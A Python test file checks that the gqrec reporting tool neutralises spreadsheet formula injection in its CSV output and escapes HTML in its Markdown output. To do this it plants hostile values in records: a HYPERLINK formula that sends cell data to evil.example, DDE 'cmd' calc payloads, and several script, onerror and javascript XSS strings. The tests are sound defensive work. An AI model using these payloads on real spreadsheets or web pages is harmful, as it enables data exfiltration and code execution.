"""Output injection: record text that a spreadsheet would run (`=HYPERLINK(…)`, `+cmd|…`, `@SUM`, a
leading tab) is neutralised in every CSV gqrec writes, and record text holding HTML (`</title><script>`,
`<img onerror>`) is inert in every Markdown output. Real records, the real commands."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace

import pytest
from click.testing import CliRunner

from world import FEEDBACK_KEY, G, MEMBERS, REGION
from gqrec.cli import cli
from gqrec.csvsafe import FORMULA_STARTS, csv_text, neutralise

KEY = FEEDBACK_KEY
FORMULAS = {
    "group": '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "territory": "+cmd|' /C calc'!A0",
    "region": "@SUM(1+1)*cmd|' /C calc'!A0",
    "theme": "-2+3+cmd|' /C calc'!A0",
}
HTML = {
    "group": "</title><script>alert(1)</script>",
    "region": '<img src=x onerror="alert(2)">',
    "theme": "<script>alert(3)</script> *gras* [lien](javascript:alert(4))",
    "physician": "Dr <b onmouseover=alert(5)>X</b>",
    "key_message": "<iframe src=javascript:alert(6)>",
    "indicator": "<svg onload=alert(7)>",
}


def hostile(world, values: dict) -> None:
    """Put the values where records hold free text: group, region, territory and theme names…"""
    quoted = {k: v.replace("\\", "\\\\").replace('"', '\\"') for k, v in values.items()}
    if "group" in values:
        world.edit(G, "name: Groupe Qualité de Lamballe", f'name: "{quoted["group"]}"')
    if "region" in values:
        world.edit(REGION, "name: Armor", f'name: "{quoted["region"]}"')
    if "territory" in values:
        world.edit("regions/armor/territories/lamballe.yaml", "name: Lamballe", f'name: "{quoted["territory"]}"')
    if "theme" in values:
        world.edit("themes/asthme-adulte.yaml", "title: Asthme de l'adulte", f'title: "{quoted["theme"]}"')
    if "key_message" in values:
        world.edit("themes/asthme-adulte.yaml", "- Un traitement de fond par corticoïde inhalé pour tout asthme persistant.",
                   f'- "{quoted["key_message"]}"')
    if "indicator" in values:
        world.edit("indicators/asthme-corticoide-inhale.yaml", "title: Corticoïde inhalé chez l'asthmatique",
                   f'title: "{quoted["indicator"]}"')
        world.edit("indicators/asthme-corticoide-inhale.yaml", "numerator: patients avec",
                   f'numerator: "{quoted["indicator"]}" #')
    if "physician" in values:
        world.edit(f"regions/armor/physicians/{MEMBERS[0]}.yaml", "name: Dr Médecin 2", f'name: "{quoted["physician"]}"')


def invoke(*args: str) -> str:
    result = CliRunner().invoke(cli, list(args), env={"GQREC_FEEDBACK_KEY": KEY})
    assert result.exit_code == 0, result.output
    return result.stdout


def assert_no_formula(text: str) -> list[str]:
    """Every cell of a CSV text (either dialect: a French spreadsheet's starts with a BOM and uses `;`) is
    safe: no text cell starts like a formula (numbers excepted)."""
    french = text.startswith("\ufeff")
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";" if french else ",")
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        if cell.startswith(FORMULA_STARTS):
            assert re.fullmatch(r"-[0-9.,]+(e-?[0-9]+)?( %)?", cell), f"formula cell {cell!r}"
    return cells


def test_the_helper_neutralises_each_formula_start_and_leaves_numbers():
    for start in FORMULA_STARTS:
        assert neutralise(f"{start}1+1") == f"'{start}1+1".replace("\r", " ")  # a line break becomes a space
    assert neutralise("Lamballe") == "Lamballe" and neutralise("") == ""
    assert neutralise(-3) == -3 and neutralise(-0.25) == -0.25 and neutralise(None) is None
    assert csv_text(["a", "=b"], [["-x", -1.5, None, 2]]) == "a,'=b\n'-x,-1.5,,2\n"


def test_every_bilan_csv_neutralises_record_formulas(world, tmp_path):
    hostile(world, FORMULAS)
    out = tmp_path / "out"
    invoke("report", str(world.root), "--year", "2024", "--format", "csv", "--out", str(out), "--as-of", "2025-01-01")
    files = sorted(out.glob("*.csv"))
    assert files
    seen = set()
    for path in files:
        seen.update(assert_no_formula(path.read_text(encoding="utf-8")))
    for value in FORMULAS.values():  # each payload reached some table, made inert
        assert "'" + value in seen, value


def test_every_feedback_csv_is_free_of_formulas(world):
    hostile(world, FORMULAS)
    for args in (("--group", "lamballe"), ("--physician", MEMBERS[0])):
        text = invoke("feedback", "--period", "2024-S2", "--format", "csv", *args, str(world.root))
        cells = assert_no_formula(text)
        assert "lamballe" in cells and "participant" not in cells  # a real table
    # The profile's text cells are ids the schemas hold to slugs today; the renderer neutralises them
    # all the same, should one ever carry free text.
    from gqrec.check import build_registry
    from gqrec.feedback import csv_
    from gqrec.member_codes import codes
    from gqrec.feedback.profiles import Scope, build

    report = build(build_registry(world.root, key=KEY.encode()), "2024-S2", Scope(group="lamballe"), lambda p: codes(KEY.encode(), p))
    crafted = replace(report, profiles=tuple(replace(p, group=FORMULAS["group"], region=FORMULAS["region"])
                                             for p in report.profiles))
    cells = assert_no_formula(csv_.render(crafted))
    assert "'" + FORMULAS["group"] in cells and "'" + FORMULAS["region"] in cells


UNESCAPED_TAG = re.compile(r"(?<!\\)<")


@pytest.mark.parametrize("args", [
    ("report", "--year", "2024", "--as-of", "2025-01-01"),
    ("feedback", "--period", "2024-S2", "--group", "lamballe"),
    ("feedback", "--period", "2024-S2", "--physician", MEMBERS[0]),
])
def test_every_markdown_output_is_inert(world, args):
    hostile(world, HTML)
    text = invoke(args[0], str(world.root), *args[1:])
    assert not UNESCAPED_TAG.search(text), UNESCAPED_TAG.search(text)
    assert "\\<script\\>alert" in text
    assert "[lien](" not in text and "*gras*" not in text
